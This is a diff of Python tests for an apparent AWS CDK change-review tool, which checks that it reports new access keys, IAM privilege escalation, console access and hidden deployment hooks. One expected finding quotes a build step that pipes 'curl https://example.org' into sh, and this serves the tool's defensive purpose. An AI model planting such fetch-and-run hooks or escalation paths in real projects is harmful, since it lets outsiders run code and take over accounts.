@@ -17,7 +17,7 @@ from tests.conftest import Synth
 from tests.review.conftest import Repository
 
 A_KEY = "__import__('aws_cdk').aws_iam.CfnAccessKey(app.node.find_child('HelloQueueIdentity'), 'New', user_name='ada')"
-A_KEY_ID = "new-access-key: HelloQueueIdentity/New"
+A_KEY_ID = "new-access-key: user ada gets access key HelloQueueIdentity/New"
 
 
 def decisions(text: str) -> list[str]:
@@ -33,7 +33,12 @@ def test_the_scripts_as_processes(repository: Repository) -> None:
     stale, found = decisions(open_.stdout)
     assert stale == "stale-golden: tests/golden is not what the code makes"
     assert found == A_KEY_ID
-    assert "**new-access-key**: HelloQueueIdentity/New" in (repository.folder / "review.md").read_text()
+    assert f"- finding: '{A_KEY_ID}'" in open_.stdout, "golden files are made anew, not accepted"
+    assert "finding: 'stale-golden" not in open_.stdout
+    assert (
+        "**new-access-key**: user ada gets access key HelloQueueIdentity/New"
+        in (repository.folder / "review.md").read_text()
+    )
 
     written = repository.script("golden.py")
     assert written.returncode == 0
@@ -47,10 +52,8 @@ def test_nothing_changes(repository: Repository) -> None:
         done = repository.review(variants=REVIEWED)
     assert done.returncode == 0, done.stderr
     verdict, where = done.stdout.splitlines()
-    assert verdict.endswith(": nothing changes in AWS")
-    assert where.startswith(
-        f"Looked at {len(REVIEWED)} variants of the settings: default, administrator_access=false, "
-    )
+    assert verdict.endswith(f" in {len(REVIEWED)} variants of the settings: nothing changes in AWS")
+    assert where == f"Looked at {', '.join(REVIEWED)}"
 
 
 IN_MAIN = """
@@ -85,7 +88,7 @@ def test_what_is_deployed_beside_the_templates(repository: Repository) -> None:
         "weaker-review: cdk.json runs something else on deployment: build: curl https://example.org | sh",
         f"silenced-rule: {silenced} on HelloQueueIdentity/Friends is silenced without a trace",
         "escalation: group friends can become administrator through a new version of a policy "
-        "(iam:CreatePolicyVersion): allow everything in arn:aws:iam::aws:policy/IAMFullAccess on *",
+        "(iam:CreatePolicyVersion): may do everything that arn:aws:iam::aws:policy/IAMFullAccess allows",
     ]
     assert found[-3:] == [
         "less-protection: HelloQueueMessaging can be deleted: no termination protection",
@@ -94,6 +97,9 @@ def test_what_is_deployed_beside_the_templates(repository: Repository) -> None:
     ]
     assert "terminationProtection; with keep_data=true and " in done.stdout
     assert "+    send_away(message)" in done.stdout, "the difference of the code itself"
+    tables = re.findall("^ *[┌├│└].*", done.stdout, re.MULTILINE)
+    assert tables
+    assert all(line[-1] in "┐┤│┘" for line in tables), "the tables of cdk diff are whole"
     assert "+    send_away(message)" in (repository.folder / "review.md").read_text()
 
     repository.accept("new-code: Function/Code runs other code", "it tells the owner")
@@ -101,7 +107,7 @@ def test_what_is_deployed_beside_the_templates(repository: Repository) -> None:
     accepted = repository.review("--fail-on", "data-loss,new-code", base="HEAD~1", variants=REVIEWED)
     assert accepted.returncode == 0, accepted.stdout
     assert decisions(accepted.stdout) == [each for each in (stale, *found) if "new-code" not in each]
-    shown = "  before  example.py\n  after   see the details\n  reason  it tells the owner\n"
+    shown = "  before   example.py\n  after    see the details\n  reason   it tells the owner\n"
     assert f"ACCEPTED  new-code: Function/Code runs other code\n{shown}" in accepted.stdout
 
 
@@ -130,7 +136,7 @@ def test_what_is_deployed_elsewhere_or_without_checks(repository: Repository) ->
     assert done.returncode == 1, done.stderr
     assert {
         "weaker-review: AwsSolutions no longer checks the app",
-        "console-access: Administrator",
+        "console-access: user Administrator can sign in to the AWS console",
         "unknown-effect: the app with fifo=true cannot be synthesized: no more queues with an order",
         "unknown-effect: Other/Topic is new: AWS::SNS::Topic",
         "unknown-effect: Prod-C/Topic is new: AWS::SNS::Topic",
